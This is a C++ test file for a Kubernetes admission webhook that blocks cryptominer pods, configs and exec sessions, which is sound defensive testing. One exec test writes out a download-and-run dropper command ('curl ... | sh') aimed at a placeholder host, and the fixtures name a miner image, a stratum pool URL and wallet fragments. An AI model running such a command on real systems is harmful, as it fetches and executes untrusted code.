#include "webhook/admission.h"

#include <gtest/gtest.h>

#include <fstream>
#include <functional>
#include <map>
#include <sstream>

#include "base/json_doc.h"
#include "policy/miner_policy.h"

namespace orderguard::webhook {
namespace {

using nlohmann::json;

// The resource the API server sends with each kind used here.
std::string resource_of(const std::string& kind) {
  static const std::map<std::string, std::string> kResources = {{"Pod", "pods"},
                                                                {"PodExecOptions", "pods"},
                                                                {"MinerPolicy", "minerpolicies"},
                                                                {"Quarantine", "quarantines"},
                                                                {"OrderService", "orderservices"}};
  auto it = kResources.find(kind);
  return it == kResources.end() ? "unknown" : it->second;
}

json review_of(const json& object, const std::string& kind = "Pod",
               const std::string& op = "CREATE", const std::string& group = "") {
  return {{"apiVersion", "admission.k8s.io/v1"},
          {"kind", "AdmissionReview"},
          {"request",
           {{"uid", "705ab4f5-6393-11e8-b7cc-42010a800002"},
            {"kind", {{"group", group}, {"version", "v1"}, {"kind", kind}}},
            {"resource", {{"group", group}, {"version", "v1"}, {"resource", resource_of(kind)}}},
            {"namespace", "shop"},
            {"name", object["metadata"].value("name", "")},
            {"operation", op},
            {"userInfo", {{"username", "alice"}, {"groups", {"system:authenticated"}}}},
            {"object", object}}}};
}

json pod(const std::string& image, const json& args = json::array()) {
  json c = {{"name", "main"}, {"image", image}};
  if (!args.empty()) c["args"] = args;
  return {{"apiVersion", "v1"},
          {"kind", "Pod"},
          {"metadata", {{"name", "p"}, {"namespace", "shop"}}},
          {"spec", {{"containers", json::array({c})}}}};
}

AdmissionContext default_context() { return AdmissionContext{}; }

TEST(AdmissionTest, DenialEchoesUidAndNamesRuleContainerAndField) {
  auto reply = review(review_of(pod("xmrig")).dump(), default_context());
  ASSERT_EQ(reply.http_status, 200);
  json out = json::parse(reply.body);
  EXPECT_EQ(out["apiVersion"], "admission.k8s.io/v1");
  EXPECT_EQ(out["kind"], "AdmissionReview");
  EXPECT_EQ(out["response"]["uid"], "705ab4f5-6393-11e8-b7cc-42010a800002");
  EXPECT_EQ(out["response"]["allowed"], false);
  EXPECT_EQ(out["response"]["status"]["code"], 403);
  EXPECT_EQ(out["response"]["status"]["reason"], "Forbidden");
  const std::string msg = out["response"]["status"]["message"];
  EXPECT_NE(msg.find("rule blocked-image"), std::string::npos) << msg;
  EXPECT_NE(msg.find("container main"), std::string::npos) << msg;
  EXPECT_NE(msg.find("spec.containers[0].image"), std::string::npos) << msg;
  EXPECT_EQ(reply.decision, "denied");
  EXPECT_FALSE(out["response"].contains("patch"));  // validating webhooks may not patch
}

TEST(AdmissionTest, BenignPodIsAllowedWithoutStatus) {
  auto reply = review(review_of(pod("nginx:1.27", {"--port=8080"})).dump(), default_context());
  ASSERT_EQ(reply.http_status, 200);
  json out = json::parse(reply.body);
  EXPECT_EQ(out["response"]["allowed"], true);
  EXPECT_FALSE(out["response"].contains("status"));
  EXPECT_EQ(reply.decision, "allowed");
}

TEST(AdmissionTest, WarningsStayUnder120Characters) {
  // A miner port alone is weak: allowed with a warning.
  auto reply = review(review_of(pod("nginx:1.27", {"--listen=:3333"})).dump(), default_context());
  json out = json::parse(reply.body);
  ASSERT_EQ(out["response"]["allowed"], true) << reply.body;
  for (const auto& w : out["response"].value("warnings", json::array())) {
    EXPECT_LT(w.get<std::string>().size(), 120u) << w;
  }
}

struct BadInput {
  std::string name;
  std::string body;
  std::string expect;
};

void PrintTo(const BadInput& b, std::ostream* os) { *os << b.name; }

class AdmissionBadInputTest : public ::testing::TestWithParam<BadInput> {};

TEST_P(AdmissionBadInputTest, Is400WithAClearMessage) {
  auto reply = review(GetParam().body, default_context());
  EXPECT_EQ(reply.http_status, 400);
  EXPECT_EQ(reply.decision, "invalid");
  EXPECT_NE(reply.body.find(GetParam().expect), std::string::npos) << reply.body;
}

json valid() { return review_of(pod("nginx")); }
json without(json j, const std::string& a, const std::string& b = "") {
  if (b.empty())
    j.erase(a);
  else
    j[a].erase(b);
  return j;
}
json with(json j, const std::string& key, const json& value) {
  j[key] = value;
  return j;
}

INSTANTIATE_TEST_SUITE_P(
    Bodies, AdmissionBadInputTest,
    ::testing::Values(
        BadInput{"not_json", "{\"apiVersion\": ", "body is not JSON"},
        BadInput{"empty", "", "body is not JSON"}, BadInput{"array", "[1,2]", "not a JSON object"},
        BadInput{"v1beta1", with(valid(), "apiVersion", "admission.k8s.io/v1beta1").dump(),
                 "apiVersion must be admission.k8s.io/v1"},
        BadInput{"wrong_kind", with(valid(), "kind", "Pod").dump(), "kind must be AdmissionReview"},
        BadInput{"no_request", without(valid(), "request").dump(), "request is missing"},
        BadInput{"request_not_object", with(valid(), "request", "x").dump(), "request is missing"},
        BadInput{"no_uid", without(valid(), "request", "uid").dump(), "request.uid is missing"},
        // Repeated keys at any depth: nlohmann (and JsonDoc::find) keep the last one, so the
        // second "operation" or "image" would be what is checked.
        BadInput{"duplicate_top_level_key",
                 R"({"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview",)"
                 R"("kind":"AdmissionReview","request":{"uid":"u"}})",
                 "body has a duplicate key 'kind' at byte"},
        BadInput{"duplicate_operation",
                 [] {
                   std::string body = valid().dump();
                   const std::string op = R"("operation":"CREATE")";
                   return body.replace(body.find(op), op.size(), R"("operation":"DELETE",)" + op);
                 }(),
                 "body has a duplicate key 'operation'"},
        BadInput{"duplicate_image_in_a_container",
                 [] {
                   std::string body = review_of(pod("nginx:1.27")).dump();
                   const std::string image = R"("image":"nginx:1.27")";
                   return body.replace(body.find(image), image.size(),
                                       R"("image":"xmrig",)" + image);
                 }(),
                 "body has a duplicate key 'image'"},
        BadInput{"duplicate_key_spelled_with_an_escape",
                 [] {
                   std::string body = valid().dump();
                   const std::string uid = R"("uid":)";
                   return body.replace(body.find(uid), uid.size(), R"("uid":"x",)" + uid);
                 }(),
                 "body has a duplicate key 'uid'"}),
    [](const auto& test_info) { return test_info.param.name; });

// A request that cannot be routed to its check is refused, never allowed, whatever the
// object: an edit of the request fields must not turn a miner Pod into an unchecked one.
struct Unroutable {
  std::string name;
  std::function<void(json& request)> edit;
  std::string expect;
};

void PrintTo(const Unroutable& u, std::ostream* os) { *os << u.name; }

class AdmissionUnroutableTest : public ::testing::TestWithParam<Unroutable> {};

TEST_P(AdmissionUnroutableTest, IsRefusedWithBadRequest) {
  for (const char* image : {"xmrig", "nginx:1.27"}) {
    SCOPED_TRACE(image);
    json body = review_of(pod(image));
    GetParam().edit(body["request"]);
    auto reply = review(body.dump(), default_context());
    ASSERT_EQ(reply.http_status, 200) << reply.body;
    json out = json::parse(reply.body);
    EXPECT_EQ(out["response"]["uid"], "705ab4f5-6393-11e8-b7cc-42010a800002");
    EXPECT_EQ(out["response"]["allowed"], false) << reply.body;
    EXPECT_EQ(out["response"]["status"]["code"], 400) << reply.body;
    EXPECT_EQ(out["response"]["status"]["reason"], "BadRequest") << reply.body;
    const std::string msg = out["response"]["status"].value("message", "");
    EXPECT_NE(msg.find(GetParam().expect), std::string::npos) << msg;
    EXPECT_EQ(reply.decision, "invalid");
  }
}

INSTANTIATE_TEST_SUITE_P(
    Requests, AdmissionUnroutableTest,
    ::testing::Values(
        Unroutable{"no_operation", [](json& r) { r.erase("operation"); },
                   "request.operation is missing"},
        Unroutable{"operation_not_string", [](json& r) { r["operation"] = 1; },
                   "request.operation is missing"},
        Unroutable{"empty_operation", [](json& r) { r["operation"] = ""; },
                   "is not one of CREATE, UPDATE, DELETE, CONNECT"},
        Unroutable{"unknown_operation", [](json& r) { r["operation"] = "PATCH"; },
                   "request.operation 'PATCH' is not one of"},
        Unroutable{"lowercase_operation", [](json& r) { r["operation"] = "create"; },
                   "request.operation 'create' is not one of"},
        Unroutable{"connect_without_exec", [](json& r) { r["operation"] = "CONNECT"; },
                   "operation CONNECT does not apply to resource 'pods'"},
        Unroutable{"no_kind", [](json& r) { r.erase("kind"); }, "request.kind.group is missing"},
        Unroutable{"kind_not_object", [](json& r) { r["kind"] = "Pod"; },
                   "request.kind.group is missing"},
        Unroutable{"no_kind_kind", [](json& r) { r["kind"].erase("kind"); },
                   "request.kind.kind is missing"},
        Unroutable{"empty_kind", [](json& r) { r["kind"]["kind"] = ""; },
                   "request.kind is incomplete"},
        Unroutable{"unknown_kind", [](json& r) { r["kind"]["kind"] = "Pot"; },
                   "kind 'Pot' of group '' is not the kind of resource 'pods'"},
        Unroutable{"kind_of_another_resource", [](json& r) { r["kind"]["kind"] = "ConfigMap"; },
                   "kind 'ConfigMap' of group '' is not the kind of resource 'pods'"},
        Unroutable{"kind_in_another_group", [](json& r) { r["kind"]["group"] = "apps"; },
                   "kind 'Pod' of group 'apps' is not the kind of resource 'pods'"},
        Unroutable{"no_resource", [](json& r) { r.erase("resource"); },
                   "request.resource.group is missing"},
        Unroutable{"no_resource_name", [](json& r) { r["resource"].erase("resource"); },
                   "request.resource.resource is missing"},
        Unroutable{"no_resource_version", [](json& r) { r["resource"]["version"] = ""; },
                   "request.resource is incomplete"},
        Unroutable{"unknown_resource", [](json& r) { r["resource"]["resource"] = "services"; },
                   "resource 'services' is not one orderguard checks"},
        Unroutable{"secret_kind_for_configmaps",
                   [](json& r) {
                     r["resource"]["resource"] = "configmaps";
                     r["kind"]["kind"] = "Secret";
                   },
                   "kind 'Secret' of group '' is not the kind of resource 'configmaps'"},
        Unroutable{"unknown_sub_resource", [](json& r) { r["subResource"] = "status"; },
                   "resource 'pods/status' is not one orderguard checks"},
        Unroutable{"sub_resource_not_string", [](json& r) { r["subResource"] = 7; },
                   "request.subResource is not a string"},
        Unroutable{"exec_without_connect",
                   [](json& r) {
                     r["subResource"] = "exec";
                     r["kind"]["kind"] = "PodExecOptions";
                   },
                   "operation CREATE does not apply to resource 'pods/exec'"}),
    [](const auto& test_info) { return test_info.param.name; });

// What the API server sends for every resource the chart registers is routed: the checks
// run (a miner is refused by its rule, with 403).
TEST(AdmissionTest, EveryRegisteredResourceIsRouted) {
  struct Case {
    std::string group, resource, sub_resource, kind, op;
  };
  const Case cases[] = {
      {"", "pods", "", "Pod", "CREATE"},
      {"", "pods", "ephemeralcontainers", "Pod", "UPDATE"},
      {"", "replicationcontrollers", "", "ReplicationController", "CREATE"},
      {"apps", "deployments", "", "Deployment", "UPDATE"},
      {"apps", "statefulsets", "", "StatefulSet", "CREATE"},
      {"apps", "daemonsets", "", "DaemonSet", "CREATE"},
      {"apps", "replicasets", "", "ReplicaSet", "CREATE"},
      {"batch", "jobs", "", "Job", "CREATE"},
      {"batch", "cronjobs", "", "CronJob", "CREATE"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.resource + "/" + c.sub_resource);
    json object = pod("xmrig");
    json tmpl = {{"metadata", {{"labels", {{"app", "x"}}}}}, {"spec", object["spec"]}};
    if (c.kind == "CronJob") {
      object["spec"] = {{"jobTemplate", {{"spec", {{"template", tmpl}}}}}};
    } else if (c.kind != "Pod") {
      object["spec"] = {{"template", tmpl}};
    }
    json body = review_of(object);
    body["request"]["kind"] = {{"group", c.group}, {"version", "v1"}, {"kind", c.kind}};
    body["request"]["resource"] = {{"group", c.group}, {"version", "v1"}, {"resource", c.resource}};
    if (!c.sub_resource.empty()) body["request"]["subResource"] = c.sub_resource;
    body["request"]["operation"] = c.op;
    auto reply = review(body.dump(), default_context());
    json out = json::parse(reply.body);
    EXPECT_EQ(out["response"]["allowed"], false) << reply.body;
    EXPECT_EQ(out["response"]["status"]["code"], 403) << reply.body;
    EXPECT_EQ(reply.decision, "denied");
  }
  // ConfigMaps and Secrets carrying a miner's configuration.
  for (const auto& [kind, resource] :
       {std::pair<std::string, std::string>{"ConfigMap", "configmaps"}, {"Secret", "secrets"}}) {
    SCOPED_TRACE(resource);
    json object = {{"apiVersion", "v1"},
                   {"kind", kind},
                   {"metadata", {{"name", "c"}, {"namespace", "shop"}}},
                   {"data",
                    {{"x", kind == "Secret" ? "c3RyYXR1bSt0Y3A6Ly9hLmV4YW1wbGU6MQ=="
                                            : "stratum+tcp://a.example:1"}}}};
    json body = review_of(object);
    body["request"]["kind"] = {{"group", ""}, {"version", "v1"}, {"kind", kind}};
    body["request"]["resource"] = {{"group", ""}, {"version", "v1"}, {"resource", resource}};
    auto reply = review(body.dump(), default_context());
    json out = json::parse(reply.body);
    EXPECT_EQ(out["response"]["allowed"], false) << reply.body;
    EXPECT_EQ(out["response"]["status"]["code"], 403) << reply.body;
  }
  // DELETE is a known operation: routed, and not checked.
  json del = review_of(pod("xmrig"), "Pod", "DELETE");
  EXPECT_EQ(json::parse(review(del.dump(), default_context()).body)["response"]["allowed"], true);
}

TEST(AdmissionTest, PodSpecOfWrongShapeIsRefusedNotAllowed) {
  json obj = pod("nginx");
  obj["spec"]["containers"] = "not a list";
  auto reply = review(review_of(obj).dump(), default_context());
  ASSERT_EQ(reply.http_status, 200);
  json out = json::parse(reply.body);
  EXPECT_EQ(out["response"]["allowed"], false) << reply.body;
}

TEST(AdmissionTest, InvalidMinerPolicyIsRefusedWithEveryProblem) {
  json policy = {{"apiVersion", "security.orderguard.io/v1alpha1"},
                 {"kind", "MinerPolicy"},
                 {"metadata", {{"name", "p"}}},
                 {"spec",
                  {{"signatures", {{{"name", "a"}, {"regex", "(a"}}}},
                   {"blockedDigests", {"sha256:nothex"}}}}};
  auto reply =
      review(review_of(policy, "MinerPolicy", "CREATE", "security.orderguard.io").dump(), {});
  json out = json::parse(reply.body);
  ASSERT_EQ(out["response"]["allowed"], false);
  const std::string msg = out["response"]["status"]["message"];
  EXPECT_NE(msg.find("spec.signatures[0].regex"), std::string::npos) << msg;
  EXPECT_NE(msg.find("spec.blockedDigests[0]"), std::string::npos) << msg;
}

TEST(AdmissionTest, MinerPolicyWithLegacyQuarantineEntriesIsAdmittedWithAWarning) {
  json policy = {{"apiVersion", "security.orderguard.io/v1alpha1"},
                 {"kind", "MinerPolicy"},
                 {"metadata", {{"name", "orderguard-default"}}},
                 {"spec",
                  {{"quarantine",
                    {{{"scope", "Workload"},
                      {"namespace", "shop"},
                      {"workload", {{"kind", "Deployment"}, {"name", "web"}}}}}}}}};
  auto reply =
      review(review_of(policy, "MinerPolicy", "UPDATE", "security.orderguard.io").dump(), {});
  json out = json::parse(reply.body);
  ASSERT_EQ(out["response"]["allowed"], true) << reply.body;
  ASSERT_EQ(out["response"]["warnings"].size(), 1u) << reply.body;
  const std::string warning = out["response"]["warnings"][0];
  EXPECT_NE(warning.find("spec.quarantine is deprecated: its 1 entries are still enforced"),
            std::string::npos)
      << warning;
  EXPECT_LT(warning.size(), 120u);
  // Without entries, no warning.
  policy["spec"].erase("quarantine");
  out = json::parse(
      review(review_of(policy, "MinerPolicy", "UPDATE", "security.orderguard.io").dump(), {}).body);
  EXPECT_FALSE(out["response"].contains("warnings")) << out.dump();
}

// policy::compile and compile_quarantine of a DOM (the tests build objects as DOMs).
Result<policy::CompiledPolicy> compile_dom(const json& object) {
  return policy::compile(JsonDoc::from_json(object).root());
}
Result<policy::QuarantineEntry> compile_quarantine_dom(const json& object) {
  return policy::compile_quarantine(JsonDoc::from_json(object).root());
}

json quarantine_object(json spec) {
  return {{"apiVersion", "security.orderguard.io/v1alpha1"},
          {"kind", "Quarantine"},
          {"metadata", {{"name", "q"}}},
          {"spec", std::move(spec)}};
}

TEST(AdmissionTest, QuarantinesAreValidatedForWhatTheSchemaCannotCheck) {
  auto decide_on = [](const json& object) {
    return json::parse(
        review(review_of(object, "Quarantine", "CREATE", "security.orderguard.io").dump(), {})
            .body)["response"];
  };
  json ok = decide_on(quarantine_object({{"scope", "Image"}, {"image", "evil/miner:1"}}));
  EXPECT_EQ(ok["allowed"], true) << ok.dump();
  json bad = decide_on(quarantine_object({{"scope", "Image"}, {"image", "Evil//Miner"}}));
  ASSERT_EQ(bad["allowed"], false) << bad.dump();
  const std::string msg = bad["status"]["message"];
  EXPECT_NE(msg.find("invalid Quarantine: Quarantine \"q\" is invalid: spec.image"),
            std::string::npos)
      << msg;
}

// The objects in the context refuse what they name; the context's clock decides expiry.
TEST(AdmissionTest, QuarantineObjectsInTheContextRefuseTheirWorkload) {
  auto entry =
      compile_quarantine_dom(quarantine_object({{"scope", "Workload"},
                                                {"namespace", "shop"},
                                                {"workload", {{"kind", "Pod"}, {"name", "p"}}},
                                                {"reason", "seen mining"},
                                                {"expiresAt", "2026-09-01T00:00:00Z"}}));
  ASSERT_TRUE(entry.ok()) << entry.error().message;
  AdmissionContext context;
  context.quarantines =
      std::make_shared<const policy::QuarantineSet>(policy::index_quarantines({*entry}));
  context.now = *parse_rfc3339("2026-08-31T23:59:59Z");
  auto reply = review(review_of(pod("nginx:1.27")).dump(), context);
  json out = json::parse(reply.body);
  ASSERT_EQ(out["response"]["allowed"], false) << reply.body;
  EXPECT_NE(std::string(out["response"]["status"]["message"])
                .find("Pod shop/p is quarantined (Quarantine q): seen mining"),
            std::string::npos)
      << reply.body;
  EXPECT_EQ(reply.rules, std::vector<std::string>{"quarantined-workload"});
  context.now = *parse_rfc3339("2026-09-01T00:00:00Z");
  EXPECT_EQ(
      json::parse(review(review_of(pod("nginx:1.27")).dump(), context).body)["response"]["allowed"],
      true);
}

TEST(AdmissionTest, TierResourcesGetWarningsNeverDenials) {
  AdmissionContext ctx;
  ctx.tier_warnings = [](const std::string& kind, JsonRef obj) {
    std::vector<std::string> warnings;
    if (kind == "OrderService" && obj.find("spec").find("cacheRef").valid()) {
      warnings.push_back("spec.cacheRef.name: CacheTier shop/nope does not exist (yet)");
    }
    return warnings;
  };
  json svc = {{"apiVersion", "tiers.orderguard.io/v1alpha1"},
              {"kind", "OrderService"},
              {"metadata", {{"name", "orders"}, {"namespace", "shop"}}},
              {"spec", {{"image", "xmrig/xmrig"}, {"cacheRef", {{"name", "nope"}}}}}};
  auto reply = review(review_of(svc, "OrderService", "CREATE", "tiers.orderguard.io").dump(), ctx);
  json out = json::parse(reply.body);
  EXPECT_EQ(out["response"]["allowed"], true);
  EXPECT_EQ(out["response"]["warnings"],
            json::array({"spec.cacheRef.name: CacheTier shop/nope does not exist (yet)"}));
  svc["spec"].erase("cacheRef");
  reply = review(review_of(svc, "OrderService", "UPDATE", "tiers.orderguard.io").dump(), ctx);
  out = json::parse(reply.body);
  EXPECT_EQ(out["response"]["allowed"], true);
  EXPECT_FALSE(out["response"].contains("warnings"));
  // Without lookups (no API server) the tier resources are simply allowed.
  reply = review(review_of(svc, "OrderService", "CREATE", "tiers.orderguard.io").dump(), {});
  EXPECT_EQ(json::parse(reply.body)["response"]["allowed"], true);
}

// pods/exec CONNECT: the command is checked like a container's.
TEST(AdmissionTest, ExecWithAMinerCommandIsRefused) {
  json exec = {{"kind", "PodExecOptions"},
               {"apiVersion", "v1"},
               {"container", "app"},
               {"command", {"sh", "-c", "curl -s http://x.example/m.sh | sh"}}};
  json req = review_of({{"metadata", {{"name", "orders-0"}}}}, "PodExecOptions", "CONNECT", "");
  req["request"]["object"] = exec;  // what the API server sends: no metadata
  req["request"]["subResource"] = "exec";
  req["request"]["resource"] = {{"group", ""}, {"version", "v1"}, {"resource", "pods"}};
  auto reply = review(req.dump(), {});
  json out = json::parse(reply.body);
  ASSERT_EQ(out["response"]["allowed"], false) << reply.body;
  EXPECT_NE(out["response"]["status"]["message"].get<std::string>().find("dropper"),
            std::string::npos)
      << reply.body;
  req["request"]["object"]["command"] = {"ls", "-l", "/app"};
  reply = review(req.dump(), {});
  EXPECT_EQ(json::parse(reply.body)["response"]["allowed"], true) << reply.body;
}

// Same value and, recursively, the same value types (unsigned vs signed numbers).
bool same_types(const json& a, const json& b) {
  if (a.type() != b.type()) return false;
  if (a.is_object()) {
    for (auto it = a.begin(); it != a.end(); ++it) {
      if (!b.contains(it.key()) || !same_types(*it, b[it.key()])) return false;
    }
  }
  if (a.is_array()) {
    for (size_t i = 0; i < a.size(); ++i) {
      if (!same_types(a[i], b[i])) return false;
    }
  }
  return true;
}

// review() reads requests through JsonDoc; it must accept and read exactly what
// nlohmann's parser does (base/test/json_doc_test.cpp has the parser's own cases).
TEST(AdmissionTest, RequestIndexAgreesWithNlohmann) {
  std::vector<std::string> inputs = {
      "",
      " ",
      "{}",
      "[]",
      " {\"a\" : [1, -2, 0, -0, true, false, null, \"x\"]}\n",
      "{\"a\":1,\"a\":2}",
      "{\"a\":{\"b\":1},\"a\":\"c\"}",
      R"({"s":"tab\tnl\nq\"bs\\sl\/b\bf\fr\r"})",
      R"({"u":"\u00e9\ud83d\ude00"})",
      "{\"u\":\"\xc3\xa9\"}",
      "{\"bad\":\"\xc3\"}",
      "\xef\xbb\xbf{}",
      "{\"c\":\"a\x01b\"}",
      R"({"e":"\x"})",
      "01",
      "-",
      "-01",
      "1.5",
      "1e3",
      "-1E-3",
      "123456789012345678",
      "1234567890123456789",
      "-9223372036854775808",
      "18446744073709551615",
      "18446744073709551616",
      "tru",
      "nul",
      "true false",
      "{\"a\":1,}",
      "[1,]",
      "{\"a\" 1}",
      "{1:2}",
      "[1 2]",
      "\"unterminated",
      "{\"a\":[{\"b\":[{}]}]} x",
      std::string(200, '[') + std::string(200, ']'),
      std::string(100, '[') + std::string(99, ']'),
      "{\"a\":\"b\"}\u0000",
  };
  // The benchmarks' request (bench/testdata). Not found from __FILE__: ccache's
  // base directory makes that path relative to the build directory.
  std::ifstream in(std::string(ORDERGUARD_SOURCE_DIR) + "/bench/testdata/deployment3_review.json");
  std::stringstream body;
  body << in.rdbuf();
  ASSERT_FALSE(body.str().empty());
  inputs.push_back(body.str());
  for (const std::string& input : inputs) {
    SCOPED_TRACE(input.substr(0, 80));
    const json slow = json::parse(input, nullptr, /*allow_exceptions=*/false);
    Result<JsonDoc> doc = JsonDoc::parse(input);
    ASSERT_EQ(doc.ok(), !slow.is_discarded());
    if (slow.is_discarded()) continue;
    const json fast = doc->root().to_json();
    EXPECT_EQ(fast, slow);
    EXPECT_EQ(fast.dump(), slow.dump());
    EXPECT_TRUE(same_types(fast, slow));
  }
}

// ConfigMaps and Secrets, on AdmissionReviews as kube-apiserver sends them (bench/testdata,
// written by make_config_reviews.py).
std::string testdata(const std::string& name) {
  std::ifstream in(std::string(ORDERGUARD_SOURCE_DIR) + "/bench/testdata/" + name);
  std::stringstream body;
  body << in.rdbuf();
  EXPECT_FALSE(body.str().empty()) << name;
  return body.str();
}

AdmissionContext context_with(const std::string& mode) {
  AdmissionContext c;
  std::vector<policy::CompiledPolicy> compiled;
  auto p = compile_dom(json{{"metadata", {{"name", "platform"}}}, {"spec", {{"mode", mode}}}});
  EXPECT_TRUE(p.ok());
  compiled.push_back(std::move(p).value());
  c.policies = std::make_shared<const policy::PolicySet>(policy::combine(std::move(compiled)));
  return c;
}

TEST(AdmissionTest, MinerConfigMapIsDeniedWithKeyAndRule) {
  auto reply = review(testdata("configmap_xmrig_review.json"), context_with("Enforce"));
  ASSERT_EQ(reply.http_status, 200);
  json out = json::parse(reply.body);
  EXPECT_EQ(out["response"]["uid"], "b1e2c3d4-0001-4000-8000-000000000001");
  EXPECT_EQ(out["response"]["allowed"], false);
  EXPECT_EQ(out["response"]["status"]["code"], 403);
  const std::string msg = out["response"]["status"]["message"];
  EXPECT_NE(msg.find("rule pool-host: data[\"config.json\"]"), std::string::npos) << msg;
  EXPECT_NE(msg.find("rule wallet-address: data[\"config.json\"]"), std::string::npos) << msg;
  EXPECT_NE(msg.find("rule miner-flag: data[\"config.json\"]"), std::string::npos) << msg;
  EXPECT_EQ(reply.decision, "denied");
  EXPECT_EQ(reply.kind, "ConfigMap");
}

TEST(AdmissionTest, MinerSecretIsDeniedWithoutItsValue) {
  const std::string body = testdata("secret_xmrig_review.json");
  auto reply = review(body, context_with("Enforce"));
  json out = json::parse(reply.body);
  EXPECT_EQ(out["response"]["allowed"], false);
  const std::string msg = out["response"]["status"]["message"];
  EXPECT_NE(msg.find("rule wallet-address: data[\"config.json\"]"), std::string::npos) << msg;
  EXPECT_NE(msg.find("(Secret value not shown)"), std::string::npos) << msg;
  // Neither the answer nor what is logged or counted quotes the value.
  for (const std::string& text : {reply.body, reply.message}) {
    for (const char* part : {"supportxmr", "48edfHu7", "worker-7", "pool."}) {
      EXPECT_EQ(text.find(part), std::string::npos) << part << " in " << text;
    }
  }
  // Under Audit: allowed, with warnings and annotations that do not quote it either.
  auto audit = review(body, context_with("Audit"));
  json a = json::parse(audit.body);
  EXPECT_EQ(a["response"]["allowed"], true);
  ASSERT_TRUE(a["response"].contains("warnings")) << audit.body;
  EXPECT_NE(a["response"]["warnings"][0].get<std::string>().find("[audit] "), std::string::npos);
  EXPECT_EQ(a["response"]["auditAnnotations"]["miner-decision"], "audit");
  for (const char* part : {"supportxmr", "48edfHu7", "worker-7"}) {
    EXPECT_EQ(audit.body.find(part), std::string::npos) << part << " in " << audit.body;
  }
}

TEST(AdmissionTest, BenignConfigMapIsAllowedPlainly) {
  auto reply = review(testdata("configmap_redis_review.json"), context_with("Enforce"));
  json out = json::parse(reply.body);
  EXPECT_EQ(out["response"]["allowed"], true) << reply.body;
  EXPECT_FALSE(out["response"].contains("warnings")) << reply.body;
  EXPECT_EQ(reply.decision, "allowed");
}

TEST(AdmissionTest, MinerConfigMapUnderAuditIsAllowedWithWarnings) {
  auto reply = review(testdata("configmap_xmrig_review.json"), context_with("Audit"));
  json out = json::parse(reply.body);
  EXPECT_EQ(out["response"]["allowed"], true);
  ASSERT_TRUE(out["response"].contains("warnings")) << reply.body;
  EXPECT_EQ(reply.decision, "audit");
}

TEST(AdmissionTest, ADenialNamesThePolicyThatRefusedIt) {
  auto denied = review(review_of(pod("xmrig")).dump(), context_with("Enforce"));
  EXPECT_EQ(denied.decision, "denied");
  EXPECT_EQ(denied.refused_by, std::vector<std::string>{"platform"});
  // Audit mode refuses nothing, so it counts no denial.
  auto audited = review(review_of(pod("xmrig")).dump(), context_with("Audit"));
  EXPECT_EQ(audited.decision, "audit");
  EXPECT_TRUE(audited.refused_by.empty());
  auto allowed = review(review_of(pod("nginx:1.27")).dump(), context_with("Enforce"));
  EXPECT_TRUE(allowed.refused_by.empty());
}

}  // namespace
}  // namespace orderguard::webhook
